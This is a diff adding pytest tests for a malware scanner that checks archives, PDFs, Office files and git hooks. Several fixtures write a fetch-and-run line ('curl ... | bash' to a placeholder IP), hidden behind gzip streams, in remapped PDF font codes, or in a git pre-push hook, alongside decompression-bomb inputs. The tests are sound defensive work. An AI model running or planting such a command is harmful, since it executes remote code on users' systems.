@@ -2,10 +2,13 @@
 
 from __future__ import annotations
 
+import gzip
 import json
+import random
 import re
 import sys
 import zipfile
+import zlib
 from pathlib import Path
 
 import pytest
@@ -144,6 +147,95 @@ def test_an_archive_that_unpacks_to_too_much_is_not_clean(tmp_path: Path) -> Non
     found = scan(tmp_path)
 
     assert found.unread and found.decision is not Decision.CLEAN
+
+
+def test_streams_behind_each_other_are_bounded_and_what_follows_them_is_read(tmp_path: Path) -> None:
+    (tmp_path / "many.gz").write_bytes(gzip.compress(b"", mtime=0) * 100_000)
+    attack = b"curl -s http://203.0.113.7/i | bash\n"
+    (tmp_path / "one.gz").write_bytes(gzip.compress(b"Nothing.\n", mtime=0) + attack)
+    found = scan(tmp_path)
+
+    assert any(path.startswith("many.gz") for path in found.unread)
+    assert [one.path for one in found.findings if one.rule == "run-download"] == ["one.gz!/behind"]
+
+
+def test_a_broken_archive_is_read_as_far_as_it_goes(tmp_path: Path) -> None:
+    whole = gzip.compress(b"curl -s http://203.0.113.7/i | bash\n" + random.Random(0).randbytes(4000), mtime=0)
+    (tmp_path / "cut.gz").write_bytes(whole[:-600])
+    found = scan(tmp_path)
+
+    assert "cut.gz" in found.unread and found.decision is Decision.BLOCK
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        b"%PDF-1.4\n" + b"stream\n" * 200_000,
+        b"%PDF-1.4\nstream\n" + b"beginbfchar " * 200_000 + b"\nendstream",
+        b"%PDF-1.4\nstream\n" + b"beginbfrange <0000> <ffff> <0041> endbfrange " * 5_000 + b"\nendstream",
+        b"%PDF-1.4\nstream\n" + b"(a) Tj <00> Tj [(" * 50_000 + b"\nendstream",
+    ],
+)
+def test_a_pdf_of_nothing_but_beginnings_is_read_in_linear_time(text: bytes, tmp_path: Path) -> None:
+    (tmp_path / "a.pdf").write_bytes(text)
+    assert scan(tmp_path).decision is not Decision.BLOCK
+
+
+@pytest.mark.parametrize("said", [b"/Encrypt 5 0 R", b"/Filter /LZWDecode", b"/JavaScript (x)", b"/Type /Page"])
+def test_a_pdf_that_was_not_read_is_not_clean(said: bytes, tmp_path: Path) -> None:
+    (tmp_path / "a.pdf").write_bytes(b"%PDF-1.4\n1 0 obj <<" + said + b">>\nstream\nq Q\nendstream\nendobj\n")
+    found = scan(tmp_path)
+
+    assert found.unread == ("a.pdf",) and found.decision is not Decision.CLEAN
+
+
+def test_letters_of_a_pdf_that_are_numbers_are_told_by_its_fonts(tmp_path: Path) -> None:
+    said = "curl -s http://203.0.113.7/i | bash"
+    codes = {letter: number for number, letter in enumerate(sorted(set(said)), start=3)}
+    table = "".join(f"<{number:04x}> <{ord(letter):04x}>\n" for letter, number in codes.items())
+    shown = "".join(f"{codes[letter]:04x}" for letter in said)
+    streams = [f"beginbfchar\n{table}endbfchar", f"BT <{shown}> Tj ET"]
+    body = b"".join(b"stream\n" + zlib.compress(one.encode()) + b"\nendstream\n" for one in streams)
+    (tmp_path / "a.pdf").write_bytes(b"%PDF-1.4\n" + body)
+    found = scan(tmp_path)
+
+    assert found.unread == () and "run-download" in {one.rule for one in found.findings}
+
+
+def test_a_statement_whose_middle_is_not_read_is_not_clean() -> None:
+    found = scan_text(f"echo {'a ' * 15_000}", "run.sh")
+    assert found.unread == ("run.sh",) and found.decision is not Decision.CLEAN
+    assert scan_text(f"echo {'a ' * 9_000}", "run.sh").decision is Decision.CLEAN
+
+
+def test_what_git_keeps_is_passed_over_and_a_hook_is_not(tmp_path: Path) -> None:
+    attack = "curl -s http://203.0.113.7/i | bash\n"
+    kept = ["HEAD", "index", "logs/HEAD", "refs/heads/main", f"objects/ab/{'c' * 38}", "hooks/pre-push.sample"]
+    for name in (*kept, "hooks/pre-push"):
+        file = tmp_path / ".git" / name
+        file.parent.mkdir(parents=True, exist_ok=True)
+        file.write_text(attack)
+    found = scan(tmp_path)
+
+    assert [one.path for one in found.findings if one.rule == "run-download"] == [".git/hooks/pre-push"]
+
+
+def test_an_office_document_with_what_such_have_is_clean(tmp_path: Path) -> None:
+    noise = random.Random(0).randbytes(2000)
+    with zipfile.ZipFile(tmp_path / "a.docx", "w") as document:
+        document.writestr("[Content_Types].xml", "<Types/>")
+        document.writestr("word/document.xml", "<w:document><w:p>Read me.</w:p></w:document>")
+        document.writestr("word/media/image1.png", b"\x89PNG\r\n\x1a\n" + noise)
+        document.writestr("word/fonts/font1.odttf", noise)
+        document.writestr("xl/printerSettings/printerSettings1.bin", noise)
+    assert scan(tmp_path).decision is Decision.CLEAN
+
+
+def test_an_object_within_an_office_document_is_not_read_and_told(tmp_path: Path) -> None:
+    with zipfile.ZipFile(tmp_path / "a.docx", "w") as document:
+        document.writestr("word/document.xml", "<w:document><w:p>Read me.</w:p></w:document>")
+        document.writestr("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)
+    assert scan(tmp_path).unread == ("a.docx!/word/embeddings/oleObject1.bin",)
 
 
 def test_the_texts_of_one_command_are_bounded_and_the_first_holds_all() -> None:
